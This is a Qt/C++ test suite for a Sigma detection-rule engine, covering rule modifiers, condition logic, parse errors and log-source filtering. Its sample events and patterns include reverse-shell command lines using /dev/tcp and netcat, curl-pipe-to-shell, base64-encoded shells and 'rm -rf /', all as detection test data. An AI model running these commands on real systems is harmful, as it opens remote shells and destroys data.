// yagura::detect: the Sigma engine, data-driven from the Sigma specification (v2): one row per
// modifier and per condition form, each with its negative; parse errors; log sources; keywords;
// null and empty values.

#include "detect/RuleSet.h"

#include <QtTest>

#include <string>
#include <vector>

using namespace yagura;
using namespace yagura::detect;

namespace {

// A rule around a detection block written without indentation ("sel:\n  Field: value\n...").
std::string ruleYaml(const QString& detection, const QString& logsource = "    product: linux\n") {
    std::string yaml = "title: test rule\nid: 00000000-0000-0000-0000-000000000001\n"
                       "status: test\nlevel: high\nlogsource:\n" +
                       logsource.toStdString() + "detection:\n";
    for (const QString& line : detection.split('\n'))
        yaml += "    " + line.toStdString() + "\n";
    return yaml;
}

// "Field=value" lines; a value may contain '=' and is taken verbatim (\t and \n escapes allowed
// through C++ string literals).
Event eventFrom(const QString& fields) {
    Event event;
    for (const QString& line : fields.split(QChar(0x1F), Qt::SkipEmptyParts)) {
        const qsizetype eq = line.indexOf('=');
        QByteArray name = line.left(eq).toUtf8();
        QByteArray value = line.mid(eq + 1).toUtf8();
        event.set(name.toStdString(), value.toStdString());
    }
    return event;
}

// Fields separated by U+001F so that values can hold ';', '=' and newlines.
QString fields(std::initializer_list<const char*> items) {
    QStringList list;
    for (const char* item : items)
        list << QString::fromUtf8(item);
    return list.join(QChar(0x1F));
}

QByteArray utf16le(const QString& text) {
    QByteArray out;
    for (QChar c : text) {
        out.append(static_cast<char>(c.unicode() & 0xFF));
        out.append(static_cast<char>(c.unicode() >> 8));
    }
    return out;
}

template <typename T> const char* why(const Result<T>& result) {
    return result.ok() ? "" : result.error().message.c_str();
}

} // namespace

class TestSigmaEngine : public QObject {
    Q_OBJECT

private slots:
    void modifiers_data();
    void modifiers();
    void conditions_data();
    void conditions();
    void parseErrors_data();
    void parseErrors();
    void logsourceFiltering_data();
    void logsourceFiltering();
    void requiredFieldsStayCorrect();
    void ruleMetadataAndSet();
    void loadDirectoryReports();
    void regexOnHugeValueDoesNotCrash();
};

void TestSigmaEngine::modifiers_data() {
    QTest::addColumn<QString>("detection");
    QTest::addColumn<QString>("event");
    QTest::addColumn<bool>("expected");

    auto row = [](const char* name, const char* detection, QString event, bool expected) {
        QTest::newRow(name) << QString::fromUtf8(detection) << event << expected;
    };
    const char* plain = "sel:\n  Image: /usr/bin/Curl\ncondition: sel";
    row("equals, case-insensitive", plain, fields({"Image=/USR/BIN/curl"}), true);
    row("equals is whole-value", plain, fields({"Image=/usr/bin/curl2"}), false);
    row("equals, absent field", plain, fields({"CommandLine=/usr/bin/curl"}), false);
    row("equals, field name fallback", plain, fields({"image=/usr/bin/curl"}), true);

    const char* number = "sel:\n  DestinationPort: 443\ncondition: sel";
    row("number equals", number, fields({"DestinationPort=443"}), true);
    row("number equals numerically", number, fields({"DestinationPort=443.0"}), true);
    row("number differs", number, fields({"DestinationPort=4433"}), false);

    const char* list = "sel:\n  Image:\n    - /bin/sh\n    - /bin/bash\ncondition: sel";
    row("list is OR", list, fields({"Image=/bin/bash"}), true);
    row("list is OR, none", list, fields({"Image=/bin/zsh"}), false);

    const char* star = "sel:\n  CommandLine: 'curl * | sh'\ncondition: sel";
    row("wildcard *", star, fields({"CommandLine=curl http://x/y | sh"}), true);
    row("wildcard * anchored", star, fields({"CommandLine=sudo curl http://x | sh"}), false);
    const char* one = "sel:\n  Image: '/bin/?ash'\ncondition: sel";
    row("wildcard ?", one, fields({"Image=/bin/bash"}), true);
    row("wildcard ? is one character", one, fields({"Image=/bin/ash"}), false);
    row("wildcard ? is one UTF-8 character", one,
        fields({"Image=/bin/\xC3\xA9"
                "ash"}),
        true);
    const char* escaped = "sel:\n  CommandLine|contains: 'a\\*b'\ncondition: sel";
    row("escaped \\* is literal", escaped, fields({"CommandLine=x a*b y"}), true);
    row("escaped \\* is not a wildcard", escaped, fields({"CommandLine=x aXb y"}), false);
    const char* backslash = "sel:\n  Image|endswith: '\\cmd.exe'\ncondition: sel";
    row("plain backslash", backslash, fields({"Image=C:\\Windows\\cmd.exe"}), true);
    const char* doubled = "sel:\n  Image|startswith: '\\\\\\\\server\\share'\ncondition: sel";
    row("escaped backslashes", doubled, fields({"Image=\\\\server\\share\\x.exe"}), true);

    const char* contains = "sel:\n  CommandLine|contains: ' -enc '\ncondition: sel";
    row("contains", contains, fields({"CommandLine=powershell -ENC abc"}), true);
    row("contains, not", contains, fields({"CommandLine=powershell -encoded"}), false);
    const char* starts = "sel:\n  Image|startswith: /tmp/\ncondition: sel";
    row("startswith", starts, fields({"Image=/TMP/x"}), true);
    row("startswith, not", starts, fields({"Image=/var/tmp/x"}), false);
    const char* ends = "sel:\n  Image|endswith: /nc\ncondition: sel";
    row("endswith", ends, fields({"Image=/usr/bin/nc"}), true);
    row("endswith, not", ends, fields({"Image=/usr/bin/ncat"}), false);
    const char* containsGlob = "sel:\n  CommandLine|contains: 'wget*http'\ncondition: sel";
    row("contains with inner wildcard", containsGlob, fields({"CommandLine=x wget -q http://"}),
        true);
    row("contains with inner wildcard, not", containsGlob, fields({"CommandLine=x http wget"}),
        false);

    const char* all = "sel:\n  CommandLine|contains|all:\n    - ' -i'\n    - '/dev/tcp'\n"
                      "condition: sel";
    row("contains|all", all, fields({"CommandLine=bash -i >& /dev/tcp/1.2.3.4/80"}), true);
    row("contains|all, one missing", all, fields({"CommandLine=bash -i"}), false);

    const char* cased = "sel:\n  CommandLine|contains|cased: ' -O '\ncondition: sel";
    row("cased", cased, fields({"CommandLine=wget -O out"}), true);
    row("cased, other case", cased, fields({"CommandLine=wget -o out"}), false);

    const char* re = "sel:\n  CommandLine|re: '\\s-[FTd]\\s'\ncondition: sel";
    row("re", re, fields({"CommandLine=tar -T list"}), true);
    row("re is case-sensitive", re, fields({"CommandLine=tar -t list"}), false);
    row("re searches, unanchored", "sel:\n  CommandLine|re: 'b+c'\ncondition: sel",
        fields({"CommandLine=aaabbbcdd"}), true);
    const char* reI = "sel:\n  CommandLine|re|i: '^curl\\s'\ncondition: sel";
    row("re|i", reI, fields({"CommandLine=CURL http://x"}), true);
    row("re|i, not", reI, fields({"CommandLine=xcurl http://x"}), false);
    const char* inlineI = "sel:\n  CommandLine|re: '(?i)^curl\\s'\ncondition: sel";
    row("re (?i) inline", inlineI, fields({"CommandLine=CURL http://x"}), true);
    const char* reM = "sel:\n  Payload|re|m: '^second$'\ncondition: sel";
    row("re|m", reM, fields({"Payload=first\nsecond\nthird"}), true);
    row("re without m", "sel:\n  Payload|re: '^second$'\ncondition: sel",
        fields({"Payload=first\nsecond\nthird"}), false);
    const char* reS = "sel:\n  Payload|re|s: 'a.b'\ncondition: sel";
    row("re|s", reS, fields({"Payload=a\nb"}), true);
    row("re without s", "sel:\n  Payload|re: 'a.b'\ncondition: sel", fields({"Payload=a\nb"}),
        false);

    // base64('http://') = aHR0cDovLw==
    const char* b64 = "sel:\n  Payload|base64: 'http://'\ncondition: sel";
    row("base64", b64, fields({"Payload=aHR0cDovLw=="}), true);
    row("base64, plain text", b64, fields({"Payload=http://"}), false);
    row("base64|contains", "sel:\n  Payload|base64|contains: 'http://'\ncondition: sel",
        fields({"Payload=xx aHR0cDovLw== yy"}), true);
    const char* b64off = "sel:\n  CommandLine|base64offset|contains: '/bin/bash'\ncondition: sel";
    for (int offset = 0; offset < 3; ++offset) {
        const QByteArray encoded =
            (QByteArray(offset, 'x') + "/bin/bash -i >& /dev/tcp/x").toBase64();
        QTest::newRow(qPrintable(QString("base64offset, offset %1").arg(offset)))
            << QString(b64off) << QString("CommandLine=echo " + encoded + " | base64 -d") << true;
    }
    row("base64offset, other text", b64off,
        fields({"CommandLine=echo L2Jpbi9zaCAtaQ== | base64 -d"}), false);
    const char* wide = "sel:\n  CommandLine|wide|base64offset|contains: 'whoami'\ncondition: sel";
    for (int offset = 0; offset < 3; ++offset) {
        const QByteArray encoded =
            (QByteArray(offset * 2, 'y') + utf16le("cmd /c whoami /all")).toBase64();
        QTest::newRow(qPrintable(QString("wide|base64offset, offset %1").arg(offset)))
            << QString(wide) << QString("CommandLine=powershell -enc " + encoded) << true;
    }
    row("wide|base64offset, utf-8 text", wide, fields({"CommandLine=powershell -enc d2hvYW1p"}),
        false);
    QTest::newRow("utf16le|base64")
        << QString("sel:\n  Payload|utf16le|base64: 'ab'\ncondition: sel")
        << QString("Payload=" + utf16le("ab").toBase64()) << true;
    QTest::newRow("utf16be|base64")
        << QString("sel:\n  Payload|utf16be|base64: 'ab'\ncondition: sel")
        << QString("Payload=" + QByteArray("\0a\0b", 4).toBase64()) << true;
    QTest::newRow("utf16 (BOM)|base64")
        << QString("sel:\n  Payload|utf16|base64: 'ab'\ncondition: sel")
        << QString("Payload=" + (QByteArray("\xFF\xFE") + utf16le("ab")).toBase64()) << true;

    const char* windash = "sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel";
    row("windash -", windash, fields({"CommandLine=powershell -enc AAA"}), true);
    row("windash /", windash, fields({"CommandLine=powershell /enc AAA"}), true);
    row("windash en dash", windash,
        fields({"CommandLine=powershell \xE2\x80\x93"
                "enc AAA"}),
        true);
    row("windash em dash", windash,
        fields({"CommandLine=powershell \xE2\x80\x94"
                "enc AAA"}),
        true);
    row("windash horizontal bar", windash,
        fields({"CommandLine=powershell \xE2\x80\x95"
                "enc AAA"}),
        true);
    row("windash, other character", windash, fields({"CommandLine=powershell +enc AAA"}), false);
    const char* windashMid = "sel:\n  CommandLine|windash|contains: 'a-b'\ncondition: sel";
    row("windash leaves a dash inside a word", windashMid, fields({"CommandLine=x a/b"}), false);
    row("windash, dash inside a word", windashMid, fields({"CommandLine=x a-b"}), true);

    const char* cidr4 = "sel:\n  DestinationIp|cidr: 10.0.0.0/8\ncondition: sel";
    row("cidr ipv4", cidr4, fields({"DestinationIp=10.20.30.40"}), true);
    row("cidr ipv4, outside", cidr4, fields({"DestinationIp=11.0.0.1"}), false);
    row("cidr ipv4, not an address", cidr4, fields({"DestinationIp=10.example"}), false);
    const char* cidr6 = "sel:\n  DestinationIp|cidr: 'fe80::/10'\ncondition: sel";
    row("cidr ipv6", cidr6, fields({"DestinationIp=fe80::1:2"}), true);
    row("cidr ipv6, outside", cidr6, fields({"DestinationIp=2001:db8::1"}), false);
    row("cidr ipv6 vs ipv4 value", cidr6, fields({"DestinationIp=10.0.0.1"}), false);
    const char* cidrList = "sel:\n  DestinationIp|cidr:\n    - 127.0.0.0/8\n    - 192.168.1.7/32\n"
                           "condition: sel";
    row("cidr list, host route", cidrList, fields({"DestinationIp=192.168.1.7"}), true);
    row("cidr list, none", cidrList, fields({"DestinationIp=192.168.1.8"}), false);

    row("lt", "sel:\n  Count|lt: 10\ncondition: sel", fields({"Count=9"}), true);
    row("lt, equal", "sel:\n  Count|lt: 10\ncondition: sel", fields({"Count=10"}), false);
    row("lte", "sel:\n  Count|lte: 10\ncondition: sel", fields({"Count=10"}), true);
    row("lte, greater", "sel:\n  Count|lte: 10\ncondition: sel", fields({"Count=11"}), false);
    row("gt", "sel:\n  Count|gt: 10\ncondition: sel", fields({"Count=10.5"}), true);
    row("gt, equal", "sel:\n  Count|gt: 10\ncondition: sel", fields({"Count=10"}), false);
    row("gte", "sel:\n  Count|gte: -1\ncondition: sel", fields({"Count=-1"}), true);
    row("gte, less", "sel:\n  Count|gte: -1\ncondition: sel", fields({"Count=-2"}), false);
    row("gt, not a number", "sel:\n  Count|gt: 1\ncondition: sel", fields({"Count=many"}), false);

    const char* exists = "sel:\n  User|exists: true\ncondition: sel";
    row("exists true", exists, fields({"User="}), true);
    row("exists true, absent", exists, fields({"Image=x"}), false);
    const char* absent = "sel:\n  User|exists: false\ncondition: sel";
    row("exists false", absent, fields({"Image=x"}), true);
    row("exists false, present", absent, fields({"User=root"}), false);

    const char* fieldref = "sel:\n  TargetUser|fieldref: SubjectUser\ncondition: sel";
    row("fieldref", fieldref, fields({"TargetUser=Root", "SubjectUser=root"}), true);
    row("fieldref, differs", fieldref, fields({"TargetUser=root", "SubjectUser=alice"}), false);
    row("fieldref, other field absent", fieldref, fields({"TargetUser=root"}), false);
    const char* fieldrefContains = "sel:\n  CommandLine|fieldref|contains: Image\ncondition: sel";
    row("fieldref|contains", fieldrefContains, fields({"CommandLine=/bin/ls -la", "Image=/bin/ls"}),
        true);
    row("fieldref|contains, not", fieldrefContains, fields({"CommandLine=ls -la", "Image=/bin/ls"}),
        false);

    const char* null = "sel:\n  Image|endswith: /sh\nfilter:\n  ParentImage: null\n"
                       "condition: sel and filter";
    row("null: absent field", null, fields({"Image=/bin/sh"}), true);
    row("null: present field", null, fields({"Image=/bin/sh", "ParentImage=/usr/bin/sshd"}), false);
    row("null: empty value is not null", null, fields({"Image=/bin/sh", "ParentImage="}), false);
    const char* empty = "sel:\n  CommandLine: ''\ncondition: sel";
    row("empty value", empty, fields({"CommandLine="}), true);
    row("empty value, non-empty", empty, fields({"CommandLine=ls"}), false);
    row("empty value, absent", empty, fields({"Image=/bin/ls"}), false);
    const char* anyValue = "sel:\n  CommandLine: '*'\ncondition: sel";
    row("* needs the field", anyValue, fields({"CommandLine="}), true);
    row("* needs the field, absent", anyValue, fields({"Image=/bin/ls"}), false);

    const char* keywords = "keywords:\n  - 'Accepted publickey'\n  - 'session opened'\n"
                           "condition: keywords";
    row("keywords, any value", keywords, fields({"Host=a", "Message=pam: Session opened for x"}),
        true);
    row("keywords, none", keywords, fields({"Message=session closed"}), false);
    const char* keywordAll = "keywords:\n  '|all':\n    - 'nc'\n    - '-e'\ncondition: keywords";
    row("keywords |all", keywordAll, fields({"CommandLine=nc -e /bin/sh"}), true);
    row("keywords |all, one missing", keywordAll, fields({"CommandLine=nc host"}), false);
    row("keywords |all across fields", keywordAll, fields({"Image=/bin/nc", "Args=-e"}), true);
    const char* keywordGlob = "keywords:\n  - 'rm*-rf'\ncondition: keywords";
    row("keyword with wildcard", keywordGlob, fields({"Message=sudo rm -rf /"}), true);
    row("keyword with wildcard, not", keywordGlob, fields({"Message=sudo rf -rm /"}), false);

    const char* listOfMaps = "sel:\n  - Image|endswith: /curl\n    CommandLine|contains: ' -k'\n"
                             "  - Image|endswith: /wget\ncondition: sel";
    row("list of maps, first AND-group", listOfMaps,
        fields({"Image=/usr/bin/curl", "CommandLine=curl -k https://x"}), true);
    row("list of maps, second group", listOfMaps, fields({"Image=/usr/bin/wget"}), true);
    row("list of maps, first group incomplete", listOfMaps,
        fields({"Image=/usr/bin/curl", "CommandLine=curl https://x"}), false);
}

void TestSigmaEngine::modifiers() {
    QFETCH(QString, detection);
    QFETCH(QString, event);
    QFETCH(bool, expected);
    const auto rule = parseRule(ruleYaml(detection), "test");
    QVERIFY2(rule.ok(), why(rule));
    QCOMPARE(rule->matches(eventFrom(event)), expected);
}

void TestSigmaEngine::conditions_data() {
    QTest::addColumn<QString>("condition");
    QTest::addColumn<QString>("event");
    QTest::addColumn<bool>("expected");

    // sel_a: A=1, sel_b: B=2, filter: C=3, _hidden: D=4
    auto row = [](const char* name, const char* condition, std::initializer_list<const char*> f,
                  bool expected) {
        QTest::newRow(name) << QString::fromUtf8(condition) << fields(f) << expected;
    };
    row("identifier", "sel_a", {"A=1"}, true);
    row("identifier, not", "sel_a", {"A=2"}, false);
    row("and", "sel_a and sel_b", {"A=1", "B=2"}, true);
    row("and, one", "sel_a and sel_b", {"A=1"}, false);
    row("or", "sel_a or sel_b", {"B=2"}, true);
    row("or, none", "sel_a or sel_b", {"C=3"}, false);
    row("not", "not sel_a", {"B=2"}, true);
    row("not, true inside", "not sel_a", {"A=1"}, false);
    row("and not", "sel_a and not filter", {"A=1"}, true);
    row("and not, filtered", "sel_a and not filter", {"A=1", "C=3"}, false);
    // not binds tighter than and: (not sel_a) and sel_b
    row("not before and", "not sel_a and sel_b", {"B=2"}, true);
    row("not before and, a", "not sel_a and sel_b", {"A=1", "B=2"}, false);
    row("not before and, neither", "not sel_a and sel_b", {}, false);
    // and binds tighter than or: sel_a or (sel_b and filter)
    row("and before or", "sel_a or sel_b and filter", {"A=1"}, true);
    row("and before or, b alone", "sel_a or sel_b and filter", {"B=2"}, false);
    row("parentheses", "(sel_a or sel_b) and filter", {"B=2", "C=3"}, true);
    row("parentheses, no filter", "(sel_a or sel_b) and filter", {"A=1"}, false);
    row("nested parentheses", "((sel_a and (sel_b or filter)) and not (filter and sel_b))",
        {"A=1", "C=3"}, true);
    row("nested parentheses, negated part",
        "((sel_a and (sel_b or filter)) and not (filter and sel_b))", {"A=1", "B=2", "C=3"}, false);
    row("not (or)", "not (sel_a or sel_b)", {"C=3"}, true);
    row("not (or), one", "not (sel_a or sel_b)", {"B=2"}, false);
    row("double not", "not not sel_a", {"A=1"}, true);
    row("1 of pattern", "1 of sel_*", {"B=2"}, true);
    row("1 of pattern, none", "1 of sel_*", {"C=3"}, false);
    row("any of pattern", "any of sel_*", {"A=1"}, true);
    row("all of pattern", "all of sel_*", {"A=1", "B=2"}, true);
    row("all of pattern, one", "all of sel_*", {"A=1"}, false);
    row("1 of them", "1 of them", {"C=3"}, true);
    row("1 of them excludes _names", "1 of them", {"D=4"}, false);
    row("all of them", "all of them", {"A=1", "B=2", "C=3"}, true);
    row("all of them ignores _names", "all of them", {"A=1", "B=2", "C=3"}, true);
    row("all of them, one missing", "all of them", {"A=1", "B=2"}, false);
    row("2 of pattern", "2 of them", {"A=1", "C=3"}, true);
    row("2 of pattern, one", "2 of them", {"C=3"}, false);
    row("_name by name", "_hidden", {"D=4"}, true);
    row("1 of sel and not 1 of filter*", "1 of sel_* and not 1 of filter*", {"A=1"}, true);
    row("1 of sel and not 1 of filter*, filtered", "1 of sel_* and not 1 of filter*",
        {"A=1", "C=3"}, false);
    row("all of pattern or", "all of sel_* or filter", {"C=3"}, true);
    row("exact name is not a prefix", "sel_a", {"A=1x"}, false);
}

void TestSigmaEngine::conditions() {
    QFETCH(QString, condition);
    QFETCH(QString, event);
    QFETCH(bool, expected);
    const QString detection = "sel_a:\n  A: 1\nsel_b:\n  B: 2\nfilter:\n  C: 3\n_hidden:\n  D: 4\n"
                              "condition: " +
                              condition;
    const auto rule = parseRule(ruleYaml(detection), "test");
    QVERIFY2(rule.ok(), why(rule));
    QCOMPARE(rule->matches(eventFrom(event)), expected);
}

void TestSigmaEngine::parseErrors_data() {
    QTest::addColumn<QString>("yaml");
    QTest::addColumn<QString>("reason");
    QTest::addColumn<QString>("detail");

    auto wrap = [](const char* detection) {
        return QString::fromStdString(ruleYaml(detection));
    };
    QTest::newRow("bad yaml") << QString("title: x\ndetection: [unclosed\n") << "invalid yaml"
                              << "line ";
    QTest::newRow("not a map") << QString("- a\n- b\n") << "invalid rule"
                               << "not a map";
    QTest::newRow("missing title")
        << QString("logsource:\n  product: linux\ndetection:\n  sel:\n    A: 1\n  condition: sel\n")
        << "invalid rule"
        << "'title'";
    QTest::newRow("missing detection")
        << QString("title: x\nlogsource:\n  product: linux\n") << "invalid rule"
        << "'detection'";
    QTest::newRow("missing logsource")
        << QString("title: x\ndetection:\n  sel:\n    A: 1\n  condition: sel\n") << "invalid rule"
        << "'logsource'";
    QTest::newRow("missing condition") << wrap("sel:\n  A: 1") << "invalid rule"
                                       << "'detection.condition'";
    QTest::newRow("unknown modifier")
        << wrap("sel:\n  A|contians: x\ncondition: sel") << "unknown modifier"
        << "'contians' in 'A|contians'";
    QTest::newRow("unknown identifier")
        << wrap("sel:\n  A: 1\ncondition: selction") << "invalid condition"
        << "unknown identifier 'selction'";
    QTest::newRow("pattern matches nothing")
        << wrap("sel:\n  A: 1\ncondition: 1 of filter_*") << "invalid condition"
        << "'filter_*'";
    QTest::newRow("unbalanced parenthesis")
        << wrap("sel:\n  A: 1\ncondition: (sel") << "invalid condition"
        << "missing ')'";
    QTest::newRow("dangling and") << wrap("sel:\n  A: 1\ncondition: sel and") << "invalid condition"
                                  << "unexpected end";
    QTest::newRow("two identifiers")
        << wrap("sel:\n  A: 1\nb:\n  B: 1\ncondition: sel b") << "invalid condition"
        << "unexpected 'b'";
    QTest::newRow("aggregation") << wrap("sel:\n  A: 1\ncondition: sel | count() by B > 5")
                                 << "aggregation"
                                 << "aggregates";
    QTest::newRow("timeframe") << wrap("sel:\n  A: 1\ntimeframe: 5m\ncondition: sel")
                               << "aggregation"
                               << "timeframe";
    QTest::newRow("near") << wrap("sel:\n  A: 1\nb:\n  B: 1\ncondition: sel near b")
                          << "aggregation"
                          << "near";
    QTest::newRow("correlation rule")
        << QString("title: x\ncorrelation:\n  type: event_count\n  rules: [a]\n")
        << "correlation rule"
        << "correlates";
    QTest::newRow("expand") << wrap("sel:\n  A|expand: '%admins%'\ncondition: sel")
                            << "expand placeholders"
                            << "A|expand";
    QTest::newRow("bad cidr") << wrap("sel:\n  Ip|cidr: 10.0.0.0/33\ncondition: sel")
                              << "invalid value"
                              << "prefix";
    QTest::newRow("lt not a number") << wrap("sel:\n  N|lt: ten\ncondition: sel") << "invalid value"
                                     << "'ten' is not a number";
    QTest::newRow("exists not a boolean")
        << wrap("sel:\n  N|exists: maybe\ncondition: sel") << "invalid value"
        << "true or false";
    QTest::newRow("regex lookbehind")
        << wrap("sel:\n  A|re: '(?<=x)y'\ncondition: sel") << "unsupported regex"
        << "(?<";
    QTest::newRow("regex syntax") << wrap("sel:\n  A|re: 'a(b'\ncondition: sel")
                                  << "unsupported regex"
                                  << "std::regex";
    QTest::newRow("regex flag without re")
        << wrap("sel:\n  A|i: x\ncondition: sel") << "invalid rule"
        << "without 're'";
    QTest::newRow("base64 of wildcard")
        << wrap("sel:\n  A|base64: 'a*'\ncondition: sel") << "invalid value"
        << "wildcards";
    QTest::newRow("nested map") << wrap("sel:\n  A:\n    B: 1\ncondition: sel") << "invalid rule"
                                << "nested map";
}

void TestSigmaEngine::parseErrors() {
    QFETCH(QString, yaml);
    QFETCH(QString, reason);
    QFETCH(QString, detail);
    const auto rule = parseRule(yaml.toStdString(), "test");
    QVERIFY(!rule.ok());
    const std::string& message = rule.error().message;
    QVERIFY2(message.find('\n') == std::string::npos, message.c_str());
    QCOMPARE(QString::fromStdString(std::string(problemReason(rule.error()))), reason);
    QVERIFY2(QString::fromStdString(message).contains(detail), message.c_str());
}

void TestSigmaEngine::logsourceFiltering_data() {
    QTest::addColumn<QString>("category");
    QTest::addColumn<QString>("product");
    QTest::addColumn<QString>("service");
    QTest::addColumn<QStringList>("expected"); // titles, in rule order

    QTest::newRow("linux process_creation")
        << "process_creation"
        << "linux"
        << "" << QStringList{"linux-proc", "linux-any", "any-proc"};
    QTest::newRow("case-insensitive") << "Process_Creation"
                                      << "Linux"
                                      << "" << QStringList{"linux-proc", "linux-any", "any-proc"};
    QTest::newRow("windows process_creation") << "process_creation"
                                              << "windows"
                                              << "" << QStringList{"any-proc", "windows-proc"};
    QTest::newRow("linux auditd") << ""
                                  << "linux"
                                  << "auditd" << QStringList{"linux-any", "linux-auditd"};
    QTest::newRow("linux file_event") << "file_event"
                                      << "linux"
                                      << "" << QStringList{"linux-any"};
    QTest::newRow("no logsource: every rule")
        << ""
        << ""
        << "" << QStringList{"linux-proc", "linux-any", "any-proc", "windows-proc", "linux-auditd"};
}

void TestSigmaEngine::logsourceFiltering() {
    QFETCH(QString, category);
    QFETCH(QString, product);
    QFETCH(QString, service);
    QFETCH(QStringList, expected);

    RuleSet rules;
    const char* detection = "detection:\n  sel:\n    Image: /bin/sh\n  condition: sel\n";
    const std::pair<const char*, const char*> defs[] = {
        {"linux-proc", "  category: process_creation\n  product: linux\n"},
        {"linux-any", "  product: linux\n"},
        {"any-proc", "  category: process_creation\n"},
        {"windows-proc", "  category: process_creation\n  product: windows\n"},
        {"linux-auditd", "  product: linux\n  service: auditd\n"},
    };
    for (const auto& [title, logsource] : defs) {
        const std::string yaml =
            std::string("title: ") + title + "\nlogsource:\n" + logsource + detection;
        const auto added = rules.addRuleYaml(yaml, title);
        QVERIFY2(added.ok(), why(added));
    }
    QCOMPARE(rules.size(), std::size(defs));
    Event event(category.toStdString(), product.toStdString(), service.toStdString());
    event.set("Image", "/bin/sh");
    QStringList titles;
    for (const Rule* rule : rules.match(event))
        titles << QString::fromStdString(rule->title);
    QCOMPARE(titles, expected);
    QCOMPARE(rules.candidateCount(event), static_cast<std::size_t>(expected.size()));
    event.set("Image", "/bin/bash");
    QVERIFY(rules.match(event).empty());
}

void TestSigmaEngine::requiredFieldsStayCorrect() {
    // Fields under `not`, `null`, `exists: false`, or in only one branch of an `or` / `1 of` must
    // not be treated as required.
    const auto rule = parseRule(
        ruleYaml("sel_img:\n  Image|endswith: /sh\nsel_cmd:\n  CommandLine|contains: x\n"
                 "filter_null:\n  ParentImage: null\nfilter_user:\n  User|exists: false\n"
                 "filter_main:\n  CurrentDirectory: /root\n"
                 "condition: 1 of sel_* and filter_null and filter_user and not filter_main"),
        "test");
    QVERIFY2(rule.ok(), why(rule));
    QCOMPARE(rule->detection.requiredFields.size(), std::size_t{0});
    Event event;
    event.set("Image", "/bin/sh");
    QVERIFY(rule->matches(event));
    event.set("CurrentDirectory", "/root");
    QVERIFY(!rule->matches(event));

    const auto strict =
        parseRule(ruleYaml("sel:\n  Image|endswith: /sh\n  CommandLine|contains: x\nsel2:\n"
                           "  - Image: /a\n    User: root\n  - Image: /b\ncondition: sel and sel2"),
                  "test");
    QVERIFY2(strict.ok(), why(strict));
    QStringList required;
    for (const FieldKey& key : strict->detection.requiredFields)
        required << QString::fromStdString(key.name);
    QCOMPARE(required, (QStringList{"CommandLine", "Image"}));
}

void TestSigmaEngine::ruleMetadataAndSet() {
    const std::string yaml =
        "title: Reverse shell\nid: 11111111-2222-3333-4444-555555555555\nstatus: stable\n"
        "description: a test\nauthor: me\nlevel: critical\ntags:\n  - attack.execution\n"
        "  - attack.t1059\nfalsepositives:\n  - admins\nlogsource:\n  product: linux\n"
        "  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: /dev/tcp/\n"
        "  condition: sel\n";
    RuleSet rules;
    const auto added = rules.addRuleYaml(yaml, "inline");
    QVERIFY2(added.ok(), why(added));
    const Rule* rule = *added;
    QCOMPARE(rule->id, std::string("11111111-2222-3333-4444-555555555555"));
    QCOMPARE(rule->title, std::string("Reverse shell"));
    QCOMPARE(rule->level, std::string("critical"));
    QCOMPARE(rule->status, std::string("stable"));
    QCOMPARE(rule->tags, (std::vector<std::string>{"attack.execution", "attack.t1059"}));
    QCOMPARE(rule->logsource.category, std::string("process_creation"));
    QCOMPARE(rule->origin, std::string("inline"));
    QCOMPARE(rules.findById("11111111-2222-3333-4444-555555555555"), rule);

    const auto duplicate = rules.addRuleYaml(yaml, "again");
    QVERIFY(!duplicate.ok());
    QVERIFY2(duplicate.error().message.find("duplicate") != std::string::npos, why(duplicate));
    QCOMPARE(rules.size(), std::size_t{1});

    Event event("process_creation", "linux");
    event.set("CommandLine", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    std::vector<const Rule*> out;
    out.reserve(4);
    rules.match(event, out);
    QCOMPARE(out.size(), std::size_t{1});
    QCOMPARE(out.front(), rule);
}

void TestSigmaEngine::loadDirectoryReports() {
    RuleSet rules;
    const LoadReport report = rules.loadDirectory(YAGURA_FIXTURES_DIR "/sigma");
    QCOMPARE(report.files, std::size_t{4});
    QCOMPARE(report.loaded, std::size_t{2});
    QCOMPARE(report.unsupported, std::size_t{2});
    QCOMPARE(report.reasons.size(), std::size_t{2});
    QCOMPARE(report.reasons.at("aggregation"), std::size_t{1});
    QCOMPARE(report.reasons.at("unknown modifier"), std::size_t{1});
    QCOMPARE(report.problems.size(), std::size_t{2});
    QCOMPARE(rules.size(), std::size_t{2});

    Event event("process_creation", "linux");
    event.set("Image", "/usr/bin/nc.openbsd");
    event.set("CommandLine", "nc -e /bin/sh 10.0.0.1 4444");
    const auto matched = rules.match(event);
    QCOMPARE(matched.size(), std::size_t{1});
    QCOMPARE(matched.front()->title, std::string("Fixture netcat"));

    const LoadReport missing = rules.loadDirectory(YAGURA_FIXTURES_DIR "/sigma/does-not-exist");
    QCOMPARE(missing.files, std::size_t{0});
    QCOMPARE(missing.problems.size(), std::size_t{1});
}

void TestSigmaEngine::regexOnHugeValueDoesNotCrash() {
    const auto rule =
        parseRule(ruleYaml("sel:\n  CommandLine|re: '(.){200,}'\ncondition: sel"), "test");
    QVERIFY2(rule.ok(), why(rule));
    Event event;
    event.set("CommandLine", std::string(300, 'a'));
    QVERIFY(rule->matches(event));
    event.set("CommandLine", std::string(100, 'a'));
    QVERIFY(!rule->matches(event));
    // std::regex recurses per character; long values are searched in windows, with the anchors
    // still meaning the value's ends.
    event.set("CommandLine", std::string(200000, 'a'));
    QVERIFY(rule->matches(event));
    auto matchesRe = [](const char* pattern, const std::string& value) {
        const auto r = parseRule(
            ruleYaml(QString("sel:\n  V|re: '%1'\ncondition: sel").arg(QString::fromUtf8(pattern))),
            "test");
        Event e;
        e.set("V", value);
        return r.ok() && r->matches(e);
    };
    const std::string longValue = "x" + std::string(100000, 'a') + "b";
    QVERIFY(matchesRe("^x", longValue));
    QVERIFY(!matchesRe("^a", longValue));
    QVERIFY(matchesRe("ab$", longValue));
    QVERIFY(!matchesRe("a$", longValue));
    QVERIFY(matchesRe("\\bx", longValue));
    QVERIFY(!matchesRe("\\ba", longValue));
}

QTEST_GUILESS_MAIN(TestSigmaEngine)
#include "TestSigmaEngine.moc"
